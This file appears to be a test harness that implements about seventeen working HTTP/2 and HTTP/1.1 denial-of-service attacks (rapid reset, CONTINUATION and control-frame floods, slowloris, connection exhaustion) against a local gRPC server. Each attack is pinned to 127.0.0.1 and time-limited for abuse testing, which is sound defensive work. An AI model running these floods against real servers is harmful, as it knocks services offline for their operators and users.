"""HTTP/2 attacks written frame by frame, and HTTP/1.1 ones on the same port (h2c: the door
serves what is not HTTP/2), for tests/test_abuse.py and for measuring by hand:

    /usr/bin/python3 tests/h2attack.py ATTACK PORT [--seconds S] [--scale F] [--tls]

Each attack aims only at 127.0.0.1, comes from one client (most on one connection; the
connection floods open many, one at a time or all held together), and stops after --seconds
(at most 10) or when the host has closed what it attacks. It prints one JSON object: what it
sent and how the host answered. --scale shrinks the counts (the ASan build is slower).
`h2attack.py list` names the attacks."""

import argparse
import json
import re
import resource
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_SECONDS = 10.0
CONNECT_TIMEOUT = 5.0
CLOSE_WAIT = 3.0          # how long a connection-level violation may take to be answered

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
SETTINGS_INITIAL_WINDOW_SIZE = 0x4


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_int(n, bits, first=0):
    """An HPACK integer with an n-bit prefix."""
    top = (1 << bits) - 1
    if n < top:
        return bytes([first | n])
    out = [first | top]
    n -= top
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    return bytes(out + [n])


def literal(name, value):
    """A header field as a literal never added to the table, no Huffman: the same bytes
    mean the same field on any stream, so one block serves every stream."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(path=b"/helloworld.Greeter/SayHello", extra=b""):
    return b"".join(literal(k, v) for k, v in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"127.0.0.1"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"))) + extra


def grpc_message(body):
    return struct.pack(">BI", 0, len(body)) + body


HELLO = grpc_message(b"\x0a\x05abuse")      # helloworld.HelloRequest{name = "abuse"}
EMPTY_SETTINGS = frame(SETTINGS, 0, 0)


class Wire:
    """One connection to the host. Writes never block the attack past its time, and what the
    host sends is read (unless read=False) and counted by frame type; its SETTINGS are
    acknowledged, as HTTP/2 clients do, unless ack=False."""

    def __init__(self, port, tls=False, read=True, ack=True):
        sock = socket.create_connection(("127.0.0.1", port), timeout=CONNECT_TIMEOUT)
        if tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname="localhost")
        sock.setblocking(False)
        self.sock, self.read, self.tls, self.ack = sock, read, tls, ack
        self.closed = False
        self.inbuf = bytearray()
        self.frames = {}
        self.goaway = None
        self.pings_acked = 0
        self.received = 0
        self.sent = 0
        self.unacked = 0        # SETTINGS of the host's to acknowledge, between frames we send

    def send(self, data, until):
        """Sends data (whole frames, or the preface and frames), reading meanwhile; returns
        how many of its bytes went (fewer if the host closed the connection or time ran out)."""
        acks = b""
        if self.ack and self.unacked and self.sent >= len(PREFACE):
            acks, self.unacked = frame(SETTINGS, ACK, 0) * self.unacked, 0
        view = memoryview(acks + data)
        chunk = 16384 if self.tls else 1 << 20
        while view and not self.closed:
            left = until - time.monotonic()
            if left <= 0:
                break
            if self.read and self.tls and self.sock.pending():
                r, w = True, False
            else:
                r, w = self.ready(select.POLLOUT | (select.POLLIN if self.read else 0), left)
            if r:
                self.pump()
            if not w or self.closed:
                continue
            try:
                n = self.sock.send(view[:chunk])
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                continue
            except OSError:
                self.closed = True
                break
            view = view[n:]
        went = len(acks) + len(data) - len(view)
        self.sent += went
        return max(0, went - len(acks))

    def ready(self, events, timeout):
        """Waits up to timeout seconds for events on the socket: (readable, writable)."""
        p = select.poll()
        p.register(self.sock, events)
        got = 0
        for _, ev in p.poll(timeout * 1000):
            got |= ev
        return bool(got & (select.POLLIN | select.POLLHUP | select.POLLERR)), bool(got & select.POLLOUT)

    def pump(self):
        """Reads what has arrived; notes frames and the end of the connection."""
        while True:
            try:
                chunk = self.sock.recv(1 << 18)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.received += len(chunk)
            self.inbuf += chunk
            self.unacked += self._parse()

    def _parse(self):
        """Counts the whole frames that came; how many SETTINGS among them want an ack."""
        buf, at, unacked = self.inbuf, 0, 0
        while len(buf) - at >= 9:
            n = int.from_bytes(buf[at:at + 3], "big")
            if len(buf) - at < 9 + n:
                break
            ftype = buf[at + 3]
            self.frames[ftype] = self.frames.get(ftype, 0) + 1
            if ftype == SETTINGS and not buf[at + 4] & ACK:
                unacked += 1
            if ftype == PING and buf[at + 4] & ACK:
                self.pings_acked += 1
            if ftype == GOAWAY and n >= 8:
                self.goaway = int.from_bytes(buf[at + 13:at + 17], "big")
            at += 9 + n
        del buf[:at]
        return unacked

    def wait_answer(self, until):
        """Reads until the host closes the connection or acks a PING: "closed", "GOAWAY n",
        "PING answered", or "no answer" when time runs out."""
        while not self.closed and not self.pings_acked:
            left = until - time.monotonic()
            if left <= 0:
                return "no answer"
            if not (self.tls and self.sock.pending()):
                self.ready(select.POLLIN, left)
            self.pump()
            if self.unacked:
                self.send(b"", until)
        return ended_by_host(self) or "PING answered"

    def close(self):
        self.sock.close()


def raise_fd_limit(wanted):
    """Raises this process's open-file limit toward wanted; returns the limit it got."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    if soft < target:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
        soft = target
    return soft


def ended_by_host(w):
    if w.goaway is not None:
        return "GOAWAY %d" % w.goaway
    return "closed" if w.closed else None


# --- floods on one connection ---------------------------------------------------------------

def rapid_reset(port, until, scale, tls):
    """CVE-2023-44487: streams opened and reset at once, as fast as the host takes them."""
    w = Wire(port, tls)
    w.send(PREFACE + EMPTY_SETTINGS, until)
    block = request_block()
    rst = struct.pack(">I", CANCEL)
    sid, streams, batch = 1, 0, max(16, int(256 * scale))
    while not w.closed and time.monotonic() < until and sid < (1 << 31) - 2 * batch:
        data = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, rst)
                        for s in range(sid, sid + 2 * batch, 2))
        sent = w.send(data, until)
        streams += batch if sent == len(data) else sent * batch // len(data)
        sid += 2 * batch
    return {"streams": streams, "ended_by_host": ended_by_host(w), "rst_from_host": w.frames.get(RST_STREAM, 0)}


def continuation_flood(port, until, scale, tls):
    """A HEADERS without END_HEADERS, then CONTINUATION frames that never end, each full of
    one-byte header fields (never indexed: the same bytes serve every frame), from a client
    that never acknowledges the host's SETTINGS, and so never agrees to its header list limit."""
    w = Wire(port, tls, ack=False)
    w.send(PREFACE + EMPTY_SETTINGS + frame(HEADERS, 0, 1, request_block()), until)
    field = literal(b"x", b"v")
    burst = frame(CONTINUATION, 0, 1, field * (16384 // len(field))) * 64
    sent, limit = 0, int((1 << 30) * scale)
    while not w.closed and time.monotonic() < until and sent < limit:
        sent += w.send(burst, until)
    return {"bytes": sent, "ended_by_host": ended_by_host(w)}


def control_flood(port, until, scale, tls, one):
    w = Wire(port, tls)
    w.send(PREFACE + EMPTY_SETTINGS, until)
    burst = one * 1000
    frames = 0
    while not w.closed and time.monotonic() < until:
        frames += w.send(burst, until) // len(one)
    return {"frames": frames, "answers": w.frames.get(PING, 0) + w.frames.get(SETTINGS, 0),
            "ended_by_host": ended_by_host(w)}


def ping_flood(port, until, scale, tls):
    """PINGs as fast as the host takes them; its acks are read."""
    return control_flood(port, until, scale, tls, frame(PING, 0, 0, b"abuse!!!"))


def settings_flood(port, until, scale, tls):
    """SETTINGS frames (each one a change to ack) as fast as the host takes them."""
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535))
    one += frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65536))
    return control_flood(port, until, scale, tls, one)


def zero_window_streams(port, until, scale, tls):
    """A client that sets its window to 0, opens streams that each call SayHello, and never
    reads a byte: every reply stays with the host."""
    count = max(50, int(1000 * scale))
    w = Wire(port, tls, read=False)
    out = [PREFACE, frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0))]
    block = request_block()
    for i in range(count):
        out.append(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) + frame(DATA, END_STREAM, 1 + 2 * i, HELLO))
    data = b"".join(out)
    sent = w.send(data, until)
    opened = sent * count // len(data)
    # Held open, unread, for the rest of the time.
    time.sleep(max(0.0, until - time.monotonic()))
    return {"streams": opened, "ended_by_host": ended_by_host(w)}


def huge_headers(port, until, scale, tls):
    """Requests with a header value of 1 MiB, one after another on one connection, from a
    client that never acknowledges the host's SETTINGS, and so never agrees to its limit."""
    w = Wire(port, tls, ack=False)
    w.send(PREFACE + EMPTY_SETTINGS, until)
    block = request_block(extra=literal(b"x-big", b"v" * (1 << 20)))
    sid, requests = 1, 0
    while not w.closed and time.monotonic() < until and requests < int(1000 * scale) + 1:
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        data = frame(HEADERS, 0, sid, chunks[0])
        data += b"".join(frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, sid, c)
                         for i, c in enumerate(chunks[1:], 1))
        data += frame(DATA, END_STREAM, sid, HELLO)
        if w.send(data, until) == len(data):
            requests += 1
        sid += 2
    return {"requests": requests, "ended_by_host": ended_by_host(w)}


def goaway_storm(port, until, scale, tls):
    """GOAWAY frames as fast as the host takes them; a new connection when it closes one."""
    connections, frames = 0, 0
    burst = b"".join(frame(GOAWAY, 0, 0, struct.pack(">II", i, 0) + b"bye") for i in range(1000))
    while time.monotonic() < until and connections < int(1000 * scale) + 1:
        w = Wire(port, tls)
        connections += 1
        w.send(PREFACE + EMPTY_SETTINGS, until)
        while not w.closed and time.monotonic() < until:
            frames += w.send(burst, until) // 20
        w.close()
    return {"connections": connections, "frames": frames}


# --- many connections -----------------------------------------------------------------------

def hold(port, until, count, tls, first_bytes):
    """count connections that send first_bytes and then nothing, held until time is up;
    how many the host closed meanwhile and how many it refused."""
    raise_fd_limit(count + 64)
    held, refused = [], 0
    try:
        for _ in range(count):
            if time.monotonic() >= until:
                break
            try:
                w = Wire(port, tls)
            except OSError:
                refused += 1
                continue
            held.append(w)
            if first_bytes:
                w.send(first_bytes, until)
        opened = len(held)
        poller = select.poll()
        by_fd = {w.sock.fileno(): w for w in held}
        for fd in by_fd:
            poller.register(fd, select.POLLIN)
        while time.monotonic() < until and not all(w.closed for w in held):
            for fd, _ in poller.poll(max(0.0, min(0.5, until - time.monotonic())) * 1000):
                w = by_fd[fd]
                w.pump()
                if w.unacked:
                    w.send(b"", until)
                if w.closed:
                    poller.unregister(fd)
        return {"connections": opened, "refused": refused, "closed_by_host": sum(w.closed for w in held)}
    finally:
        for w in held:
            w.close()


def idle_connections(port, until, scale, tls):
    """2,000 connections that say hello (preface, SETTINGS) and then nothing, held together."""
    return hold(port, until, max(100, int(2000 * scale)), tls, PREFACE + EMPTY_SETTINGS)


def no_preface(port, until, scale, tls):
    """500 connections that never send a byte, held together."""
    return hold(port, until, max(50, int(500 * scale)), tls, b"")


def one_by_one(port, until, scale, tls, first_bytes):
    """New connections, one at a time, each sending first_bytes and then a PING: the host
    closes the connection or answers the PING (a few seconds at most); how it answered."""
    connections, how = 0, {}
    while time.monotonic() < until and connections < max(10, int(200 * scale)):
        w = Wire(port, tls)
        connections += 1
        w.send(first_bytes + frame(PING, 0, 0, b"answer?!"), until)
        end = w.wait_answer(min(until, time.monotonic() + CLOSE_WAIT))
        how[end] = how.get(end, 0) + 1
        w.close()
    return {"connections": connections, "how": how}


def bad_preface(port, until, scale, tls):
    """A preface that is almost right, on connection after connection."""
    return one_by_one(port, until, scale, tls, b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + EMPTY_SETTINGS)


def even_stream(port, until, scale, tls):
    """HEADERS on stream 2 (client streams are odd), on connection after connection."""
    return one_by_one(port, until, scale, tls,
                      PREFACE + EMPTY_SETTINGS + frame(HEADERS, END_HEADERS, 2, request_block()))


def data_over_window(port, until, scale, tls):
    """A stream's DATA past every window the host gave (16 MiB in all, never waiting for a
    WINDOW_UPDATE), on connection after connection."""
    data = b"".join(frame(DATA, 0, 1, b"\x00" * 16384) for _ in range(1024))
    return one_by_one(port, until, scale, tls,
                      PREFACE + EMPTY_SETTINGS + frame(HEADERS, END_HEADERS, 1, request_block()) + data)


def window_overflow(port, until, scale, tls):
    """WINDOW_UPDATEs that take the connection's and a stream's window past 2^31-1."""
    big = struct.pack(">I", 0x7fffffff)
    return one_by_one(port, until, scale, tls,
                      PREFACE + EMPTY_SETTINGS + frame(HEADERS, END_HEADERS, 1, request_block()) +
                      frame(WINDOW_UPDATE, 0, 1, big) * 2 + frame(WINDOW_UPDATE, 0, 0, big) * 2)


# --- HTTP/1.1 on the same port (the door) ----------------------------------------------------

def http1_request(path=b"/helloworld.Greeter/SayHello", body=b'{"name": "abuse"}'):
    return (b"POST %s HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
            b"content-length: %d\r\n\r\n" % (path, len(body))) + body


class Http1Wire(Wire):
    """A Wire for HTTP/1.1: what the host sends is kept (its first 64 KiB), not read as frames."""

    def __init__(self, port):
        super().__init__(port, ack=False)
        self.text = b""

    def _parse(self):
        self.text += bytes(self.inbuf[:max(0, 65536 - len(self.text))])
        self.inbuf.clear()
        return 0

    def count_statuses(self, counts):
        for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", self.text):
            counts[status.decode()] = counts.get(status.decode(), 0) + 1


def http1_slowloris(port, until, scale, tls):
    """Connections that send a request's head a byte at a time, all held together: a request
    line, then a header that never ends, a byte per connection every half second."""
    count = max(50, int(400 * scale))
    raise_fd_limit(count + 64)
    held, refused, statuses = [], 0, {}
    try:
        while len(held) + refused < count and time.monotonic() < until:
            try:
                w = Http1Wire(port)
            except OSError:
                refused += 1
                continue
            w.send(b"POST /helloworld.Greeter/SayHello HTTP/1.1\r\nx-slow: ", until)
            held.append(w)
        while time.monotonic() < until and not all(w.closed for w in held):
            for w in held:
                if not w.closed:
                    w.send(b"a", until)
            time.sleep(max(0.0, min(0.5, until - time.monotonic())))   # the attack's pace
        for w in held:
            w.pump()
            w.count_statuses(statuses)
        return {"connections": len(held), "refused": refused, "closed_by_host": sum(w.closed for w in held),
                "statuses": statuses}
    finally:
        for w in held:
            w.close()


def http1_flood(port, until, connections_max, head, burst):
    """head, then burst after burst on a connection until the host closes it, then another;
    how many connections, the bytes sent and the statuses answered."""
    connections, sent, statuses = 0, 0, {}
    while time.monotonic() < until and connections < connections_max:
        w = Http1Wire(port)
        connections += 1
        sent += w.send(head, until)
        while not w.closed and time.monotonic() < until:
            sent += w.send(burst, until)
        w.count_statuses(statuses)
        w.close()
    return {"connections": connections, "bytes": sent, "statuses": statuses}


def http1_pipeline_flood(port, until, scale, tls):
    """Pipelined requests, a thousand a write, as fast as the host takes them; a new connection
    when it closes one (it answers the first request and closes: pipelining is refused)."""
    return http1_flood(port, until, max(10, int(500 * scale)), b"", http1_request() * 1000)


def http1_chunked_flood(port, until, scale, tls):
    """A chunked request body that never ends, 16 KiB chunks as fast as the host takes them; a
    new connection when it closes one (past --max-message-bytes it answers 413)."""
    head = (b"POST /helloworld.Greeter/SayHello HTTP/1.1\r\nhost: 127.0.0.1\r\n"
            b"content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n")
    return http1_flood(port, until, max(5, int(200 * scale)), head, (b"4000\r\n" + b"a" * 16384 + b"\r\n") * 64)


def http1_cancel_flood(port, until, scale, tls):
    """What a page that aborts its fetches does: a call that runs until cancelled (the server
    stream of hosttest.Test/SleepForever, as Connect), on a connection of its own, closed as
    soon as its reply began; connection after connection."""
    body = b'{"tag": "http1-cancel"}'
    request = (b"POST /hosttest.Test/SleepForever HTTP/1.1\r\nhost: 127.0.0.1\r\n"
               b"content-type: application/connect+json\r\ncontent-length: %d\r\n\r\n" % (5 + len(body))
               + struct.pack(">BI", 0, len(body)) + body)
    requests, begun = 0, 0
    while time.monotonic() < until and requests < max(100, int(2000 * scale)):
        with socket.create_connection(("127.0.0.1", port), timeout=CONNECT_TIMEOUT) as s:
            s.sendall(request)
            requests += 1
            try:
                begun += s.recv(4096).startswith(b"HTTP/1.1 200 ")
            except OSError:
                pass
    return {"requests": requests, "begun": begun}


ATTACKS = {f.__name__: f for f in (
    rapid_reset, continuation_flood, ping_flood, settings_flood, idle_connections,
    zero_window_streams, huge_headers, no_preface, bad_preface, even_stream, data_over_window,
    window_overflow, goaway_storm, http1_slowloris, http1_pipeline_flood, http1_chunked_flood,
    http1_cancel_flood)}


def run(name, port, seconds, scale=1.0, tls=False):
    started = time.monotonic()
    out = ATTACKS[name](port, started + min(seconds, MAX_SECONDS), scale, tls)
    out.update(attack=name, seconds=round(time.monotonic() - started, 2))
    return out


def main():
    if sys.argv[1:] == ["list"]:
        print("\n".join(ATTACKS))
        return
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("port", type=int)
    p.add_argument("--seconds", type=float, default=MAX_SECONDS)
    p.add_argument("--scale", type=float, default=1.0)
    p.add_argument("--tls", action="store_true")
    a = p.parse_args()
    print(json.dumps(run(a.attack, a.port, a.seconds, a.scale, a.tls)))


if __name__ == "__main__":
    main()
